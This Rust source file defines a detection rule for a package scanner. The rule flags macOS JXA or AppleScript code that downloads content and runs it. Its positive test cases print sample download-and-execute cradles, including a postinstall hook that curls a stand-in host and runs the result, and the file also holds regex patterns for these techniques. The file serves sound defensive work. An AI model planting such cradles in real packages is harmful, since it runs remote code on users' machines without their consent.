//! Rule `osascript-cradle`.

use crate::model::Severity;
use crate::package::{FileKind, Package};
use crate::rules::{Emitter, all_text, is_doc_path};

crate::declare_rule! {
    /// A macOS automation script (JavaScript for Automation run by `osascript -l JavaScript`,
    /// or AppleScript) that downloads content and runs it: a fetch through the Objective-C
    /// bridge (`NSData.dataWithContentsOfURL`, `NSString.stringWithContentsOfURL`,
    /// `NSURLSession`, `NSURLConnection`) or `curl` through `doShellScript` / `do shell script`,
    /// in the same script as a runner of what came back (`eval`, `Function`, `run script`,
    /// `NSAppleScript`, `NSTask`). A download handed to `doShellScript` alone is not enough: a
    /// wallpaper or icon helper fetches an image and runs a command it builds. Node's JavaScript
    /// scanners do not see these APIs as network or process use. `critical` when the script
    /// runs at install time or on import, `high` otherwise.
    id: "osascript-cradle",
    category: Exec,
    severity: High,
    capability: Some(crate::model::Capability::Network),
    title: "downloads and runs code through macOS scripting",
    incident: "JXA download cradles of the Apfell/Mythic agent and macOS intrusion sets (ATT&CK T1059.002/.007, 2019-2025)",
    case_file: "index.js",
    flag: ["ObjC.import('Foundation');\nvar d = $.NSData.dataWithContentsOfURL($.NSURL.URLWithString(u));\nvar s = $.NSString.alloc.initWithDataEncoding(d, $.NSUTF8StringEncoding).js;\neval(s);",
           "var app = Application.currentApplication(); app.includeStandardAdditions = true;\nvar code = app.doShellScript('curl -fsSL ' + url);\nnew Function(code)();",
           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"osascript lib/setup.applescript\"}}\n=== lib/setup.applescript\nset payload to do shell script \"curl -fsSL https://cdn.host.invalid/p.scpt\"\nrun script payload\n",
           "const src = `var s = $.NSString.stringWithContentsOfURLEncodingError($.NSURL.URLWithString('${u}'), $.NSUTF8StringEncoding, null).js; eval(s)`;\nrequire('child_process').execFile('osascript', ['-l', 'JavaScript', '-e', src]);"],
    pass: ["var app = Application.currentApplication(); app.includeStandardAdditions = true;\nvar v = app.doShellScript('sw_vers -productVersion');",
           "ObjC.import('Foundation');\nvar app = Application.currentApplication(); app.includeStandardAdditions = true;\nvar d = $.NSData.dataWithContentsOfURL($.NSURL.URLWithString(u)); d.writeToFileAtomically(p, true);\nvar cmd = 'osascript -e ' + quoted(p); app.doShellScript(cmd);",
           "ObjC.import('Foundation');\nvar d = $.NSData.dataWithContentsOfURL($.NSURL.fileURLWithPath(p));\nvar img = $.NSImage.alloc.initWithData(d);",
           "const s = 'tell application \"Finder\" to get name of front window'; execFile('osascript', ['-e', s]);",
           "// eval(code) is never used; NSURLSession is documented in the README\nmodule.exports = 1;"],
}

fn check(pkg: &Package, out: &mut Emitter) {
    // The script-bridge side: only texts that use JXA or AppleScript at all.
    let bridge = crate::regex!(
        r"ObjC\.import\b|\$\.NS[A-Z]\w+|Application\.currentApplication\(\)|Application\(\s*['\x22]|\bdoShellScript\b|(?i:\bdo shell script\b|\brun script\b)"
    );
    // Content from the network: an Objective-C bridge download, or curl run by the script.
    let fetch = crate::regex!(
        r"(?i)\b(dataWithContentsOfURL|stringWithContentsOfURL\w*|NSURLSession|NSURLConnection|sendSynchronousRequest)\b|\bdoShellScript\(\s*['\x22`][^'\x22`\n]*\b(curl|wget)\b|\bdo shell script\s+\x22[^\x22\n]*\b(curl|wget)\b"
    );
    // What runs what came back.
    let run = crate::regex!(
        r"\beval\s*\(|\bFunction\s*\(|(?i:\brun script\b)|\brunScript\s*\(|\bNSAppleScript\b|\bNSTask\b"
    );
    // A fetch through a file URL (`fileURLWithPath`) is a local read, not a download.
    let file_url = crate::regex!(r"(?i)\bfileURLWithPath\b");
    for f in pkg.files.iter().filter(|f| {
        matches!(f.kind, FileKind::Js | FileKind::Shell)
            || f.kind == FileKind::Text && {
                let p = f.path.to_ascii_lowercase();
                p.ends_with(".applescript") || p.ends_with(".jxa")
            }
    }) {
        if is_doc_path(&f.path) {
            continue;
        }
        let text = all_text(f);
        if !bridge.is_match(text) {
            continue;
        }
        let Some(got) = fetch.find(text) else {
            continue;
        };
        // A file-URL read in a script with no other download.
        if file_url.is_match(text)
            && !crate::regex!(r"(?i)\bURLWithString\b|\b(curl|wget)\b").is_match(text)
        {
            continue;
        }
        if !run.is_match(text) {
            continue;
        }
        let off = f.text_off(got.start(), 0);
        let sev = if pkg.is_install_file(f) || pkg.runs_on_load(f, off) {
            Severity::Critical
        } else {
            Severity::High
        };
        out.hit_sev(
            sev,
            pkg,
            f,
            off,
            format!(
                "a macOS automation script downloads content ({}) and runs it",
                crate::package::one_line(got.as_str())
            ),
        );
    }
}
